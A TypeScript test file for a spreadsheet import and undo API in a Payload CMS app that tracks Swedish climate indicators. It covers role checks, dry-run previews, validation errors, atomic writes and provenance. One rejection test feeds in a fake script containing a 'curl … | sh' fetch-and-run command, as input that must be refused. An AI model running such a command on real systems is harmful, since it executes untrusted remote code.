import { handleEndpoints, type Payload } from 'payload'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'

import type { Role } from '../../collections/roles'
import type { Indicator } from '../../src/payload-types'
import { testPayload, userWithRole } from '../helpers/payload'
import { csv, xlsx, zipOfZeros } from '../values/spreadsheet/files'

let payload: Payload
let heat: Indicator
let waste: Indicator
const tokens = new Map<Role, string>()

beforeAll(async () => {
  payload = await testPayload()
  // The first account is made the administrator, whatever its role.
  await userWithRole(payload, 'admin')
  const indicator = (name: string, koladaKpi: string | null, measurements: Array<{ year: number; value: number }>) =>
    payload.create({
      collection: 'indicators',
      locale: 'sv',
      data: { name, unit: 'ton', direction: 'decrease', koladaKpi, measurements },
      overrideAccess: true,
    })
  heat = await indicator('Utsläpp från uppvärmning', 'N00401', [
    { year: 2019, value: 40 },
    { year: 2020, value: 38 },
  ])
  waste = await indicator('Hushållsavfall', null, [])
})

afterEach(() => {
  vi.restoreAllMocks()
})

async function authorization(role?: Role): Promise<Record<string, string>> {
  if (!role) return {}
  if (!tokens.has(role)) {
    const user = await userWithRole(payload, role, role === 'reporter' ? await anOrganisation() : undefined)
    const { token } = await payload.login({ collection: 'users', data: { email: user.email, password: 'test-password-123' } })
    tokens.set(role, token as string)
  }
  return { authorization: `JWT ${tokens.get(role)}` }
}

async function anOrganisation() {
  const organisation = await payload.create({
    collection: 'organisations',
    data: { name: `Förvaltning ${Date.now()}`, slug: `forvaltning-${Date.now()}`, kind: 'administration' },
    overrideAccess: true,
  })
  return String(organisation.id)
}

async function send(path: string, role: Role | undefined, body?: FormData) {
  const request = new Request(`http://localhost/api/${path}`, { method: 'POST', headers: await authorization(role), body })
  const response = await handleEndpoints({ config: payload.config, request })
  return { status: response.status, body: (await response.json()) as any }
}

function upload(role: Role | undefined, bytes: Uint8Array, name: string, dryRun?: string) {
  const form = new FormData()
  form.append('file', new File([bytes as BlobPart], name))
  if (dryRun !== undefined) form.append('dryRun', dryRun)
  return send('indicators/import', role, form)
}

/** Every indicator's values, and how many imports are kept: what an import that writes nothing leaves as it was. */
async function everything() {
  const { docs } = await payload.find({ collection: 'indicators', depth: 0, pagination: false, overrideAccess: true, sort: 'createdAt' })
  const imports = await payload.count({ collection: 'imports', overrideAccess: true })
  return { values: docs.map((doc) => doc.measurements), imports: imports.totalDocs }
}

const values = async (indicator: Indicator) => {
  const stored = await payload.findByID({ collection: 'indicators', id: indicator.id, depth: 0, overrideAccess: true })
  return Object.fromEntries((stored.measurements ?? []).map((row) => [row.year, row]))
}

const goodCsv = () =>
  csv('indikator;år;värde;not\nN00401;2020;37,5;Reviderat\nUtsläpp från uppvärmning;2019;40\nHushållsavfall;2021;180\n', true)

describe('POST /api/indicators/import', () => {
  it('is for strategists and admins only', async () => {
    const before = await everything()
    const anonymous = await upload(undefined, goodCsv(), 'värden.csv', 'false')
    expect(anonymous.status).toBe(401)
    for (const role of ['communicator', 'reporter'] as const) {
      const { status, body } = await upload(role, goodCsv(), 'värden.csv', 'false')
      expect(status, role).toBe(403)
      expect(body.errors[0].message).toBe('Bara klimatstrateger får importera värden.')
    }
    expect(await everything()).toEqual(before)
  })

  it('previews by default: what would be added, changed and left unchanged, writing nothing', async () => {
    const before = await everything()
    const { status, body } = await upload('strategist', goodCsv(), 'värden.csv')
    expect(status).toBe(200)
    expect(body).toEqual({
      dryRun: true,
      added: [{ row: 4, indicator: String(waste.id), name: 'Hushållsavfall', year: 2021, value: 180 }],
      changed: [
        {
          row: 2,
          indicator: String(heat.id),
          name: 'Utsläpp från uppvärmning',
          year: 2020,
          value: 37.5,
          note: 'Reviderat',
          before: expect.objectContaining({ value: 38, source: 'manual' }),
        },
      ],
      unchanged: [{ row: 3, indicator: String(heat.id), name: 'Utsläpp från uppvärmning', year: 2019, value: 40 }],
      errors: [],
    })
    expect((await upload('admin', goodCsv(), 'värden.csv', 'true')).body.dryRun).toBe(true)
    expect(await everything()).toEqual(before)
  })

  it('lists every error of a preview, and refuses to apply while any row has one, writing nothing', async () => {
    const before = await everything()
    const file = csv('indikator,år,värde\nN00401,2020,36\nOkänd,2020,1\nHushållsavfall,1989,1\nHushållsavfall,2020,många\nN00401,2020,35\n')
    const preview = await upload('strategist', file, 'fel.csv')
    expect(preview.status).toBe(200)
    expect(preview.body.errors.map(({ row, column }: { row: number; column: string }) => [row, column])).toEqual([
      [3, 'indikator'],
      [4, 'år'],
      [5, 'värde'],
      [6, 'år'],
    ])
    expect(preview.body.changed).toHaveLength(1)
    const applied = await upload('strategist', file, 'fel.csv', 'false')
    expect(applied.status).toBe(400)
    expect(applied.body).toMatchObject({ dryRun: false, added: [], changed: [], unchanged: [], errors: preview.body.errors })
    expect(await everything()).toEqual(before)
  })

  it.each([
    ['an empty file', () => new Uint8Array(), 'tom.csv', 'Filen är tom.'],
    [
      'a script renamed .csv',
      () => csv('#!/bin/sh\ncurl https://example.org | sh\n'),
      'värden.csv',
      'Filen är ett skript, inte ett kalkylblad. Den lästes inte.',
    ],
    ['a web page renamed .csv', () => csv('<html><body>Hej</body></html>'), 'värden.csv', /^Filen är en webbsida eller XML/],
    [
      'a binary file renamed .csv',
      () => new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]),
      'värden.csv',
      /^Filen är inte ett kalkylblad/,
    ],
    [
      'text that is no spreadsheet of values',
      () => csv('Hej!\nHär kommer siffrorna.\n'),
      'brev.csv',
      /^Filen är inte ett kalkylblad med indikatorvärden/,
    ],
    ['a huge file', () => new Uint8Array(5 * 1024 * 1024 + 1).fill(0x41), 'stor.csv', 'Filen är för stor: högst 5 MB.'],
    ['a zip that is no workbook', () => zipOfZeros(100), 'värden.xlsx', /^Filen går inte att öppna som XLSX/],
  ])('refuses %s with a clear error and writes nothing', async (_kind, bytes, name, message) => {
    const before = await everything()
    for (const dryRun of ['true', 'false']) {
      const { status, body } = await upload('strategist', await bytes(), name, dryRun)
      expect(status).toBe(400)
      expect(body.errors).toEqual([{ row: null, column: null, message: expect.any(String) }])
      if (typeof message === 'string') expect(body.errors[0].message).toBe(message)
      else expect(body.errors[0].message).toMatch(message)
    }
    expect(await everything()).toEqual(before)
  })

  it('refuses a request without a file', async () => {
    const form = new FormData()
    form.append('dryRun', 'false')
    const { status, body } = await send('indicators/import', 'strategist', form)
    expect(status).toBe(400)
    expect(body.errors[0].message).toBe('Välj en fil att importera (fältet "file").')
  })

  it('refuses a formula without a saved value in an XLSX cell, and takes the saved value of one that has it', async () => {
    const before = await everything()
    const bytes = await xlsx([
      ['indicator', 'year', 'value'],
      ['N00401', 2021, { formula: 'B2/100', result: 20.21 }],
      ['N00401', 2022, { formula: 'B3/100' } as never],
    ])
    const preview = await upload('strategist', bytes, 'värden.xlsx')
    expect(preview.body.added).toEqual([expect.objectContaining({ row: 2, year: 2021, value: 20.21 })])
    expect(preview.body.errors).toEqual([
      { row: 3, column: 'value', message: expect.stringMatching(/^Cellen har en formel utan sparat värde/) },
    ])
    expect((await upload('strategist', bytes, 'värden.xlsx', 'false')).status).toBe(400)
    expect(await everything()).toEqual(before)
  })

  it('writes nothing at all when a part of the import fails', async () => {
    const before = await everything()
    const create = payload.create.bind(payload)
    vi.spyOn(payload, 'create').mockImplementation((async (args: Parameters<Payload['create']>[0]) => {
      if (args.collection === 'imports') throw new Error('Databasen svarar inte')
      return create(args as never)
    }) as never)
    const { status } = await upload('strategist', goodCsv(), 'värden.csv', 'false')
    expect(status).toBe(500)
    vi.restoreAllMocks()
    expect(await everything()).toEqual(before)
  })

  it('applies a file when asked, with the provenance of every value written, and keeps the import', async () => {
    const { status, body } = await upload('strategist', goodCsv(), 'värden.csv', 'false')
    expect(status).toBe(200)
    expect(body).toMatchObject({ dryRun: false, errors: [] })
    expect([body.added.length, body.changed.length, body.unchanged.length]).toEqual([1, 1, 1])
    const heatValues = await values(heat)
    expect(heatValues[2020]).toMatchObject({ value: 37.5, note: 'Reviderat', source: 'spreadsheet', reference: 'värden.csv' })
    expect(heatValues[2019]).toMatchObject({ value: 40, source: 'manual', reference: null })
    expect((await values(waste))[2021]).toMatchObject({ value: 180, source: 'spreadsheet', reference: 'värden.csv' })
    const [kept] = (await payload.find({ collection: 'imports', depth: 0, sort: '-createdAt', limit: 1, overrideAccess: true })).docs
    expect(kept).toMatchObject({ kind: 'spreadsheet', reference: 'värden.csv', added: 1, changed: 1, unchanged: 1 })
    expect(kept.changes.map(({ year, before, after }) => [year, before?.value ?? null, after.value])).toEqual([
      [2021, null, 180],
      [2020, 38, 37.5],
    ])
    const file = await payload.findByID({ collection: 'import-files', id: kept.file as string, depth: 0, overrideAccess: true })
    expect(file).toMatchObject({ filename: `${String(kept.id).slice(0, 8)}-värden.csv`, mimeType: 'text/csv', filesize: goodCsv().length })
    const download = async (role: Role) => {
      const request = new Request(`http://localhost${file.url}`, { headers: await authorization(role) })
      return handleEndpoints({ config: payload.config, request })
    }
    const strategist = await download('strategist')
    expect(strategist.status).toBe(200)
    expect(new Uint8Array(await strategist.arrayBuffer())).toEqual(goodCsv())
    expect((await download('communicator')).status).toBe(403)
  })
})

describe('POST /api/imports/:id/undo', () => {
  const latestImport = async () =>
    (await payload.find({ collection: 'imports', depth: 0, sort: '-createdAt', limit: 1, overrideAccess: true })).docs[0]

  it('restores the values from before with their provenance, removes the ones added, and marks the import undone', async () => {
    const before = await values(heat)
    const file = csv('indikator;år;värde\nN00401;2019;41\nHushållsavfall;2023;170\n')
    expect((await upload('admin', file, 'ångras.csv', 'false')).status).toBe(200)
    const kept = await latestImport()
    expect((await send(`imports/${kept.id}/undo`, 'communicator')).status).toBe(403)
    const { status, body } = await send(`imports/${kept.id}/undo`, 'strategist')
    expect(status).toBe(200)
    expect(body.message).toBe('Importen är ångrad.')
    const restored = await values(heat)
    expect(restored[2019]).toMatchObject({
      value: 40,
      source: before[2019].source,
      reference: before[2019].reference,
      recordedAt: before[2019].recordedAt,
    })
    expect((await values(waste))[2023]).toBeUndefined()
    expect(await payload.findByID({ collection: 'imports', id: kept.id, depth: 0, overrideAccess: true })).toMatchObject({
      undoneAt: expect.any(String),
    })
    const again = await send(`imports/${kept.id}/undo`, 'strategist')
    expect(again.status).toBe(409)
    expect(again.body.errors[0].message).toBe('Importen är redan ångrad.')
  })

  it('refuses with 409, writing nothing, once a later change has touched one of its values', async () => {
    expect((await upload('strategist', csv('indikator;år;värde\nN00401;2018;50\nN00401;2017;51\n'), 'senare.csv', 'false')).status).toBe(
      200,
    )
    const kept = await latestImport()
    const stored = await payload.findByID({ collection: 'indicators', id: heat.id, depth: 0, overrideAccess: true })
    await payload.update({
      collection: 'indicators',
      id: heat.id,
      data: { measurements: (stored.measurements ?? []).map((row) => (row.year === 2018 ? { ...row, value: 49 } : row)) },
      overrideAccess: true,
    })
    const before = await everything()
    const { status, body } = await send(`imports/${kept.id}/undo`, 'strategist')
    expect(status).toBe(409)
    expect(body.errors[0].message).toBe(
      'Importen kan inte ångras: Utsläpp från uppvärmning 2018 har ändrats efter importen. Ändra värdena för hand i stället.',
    )
    expect(await everything()).toEqual(before)
  })
})
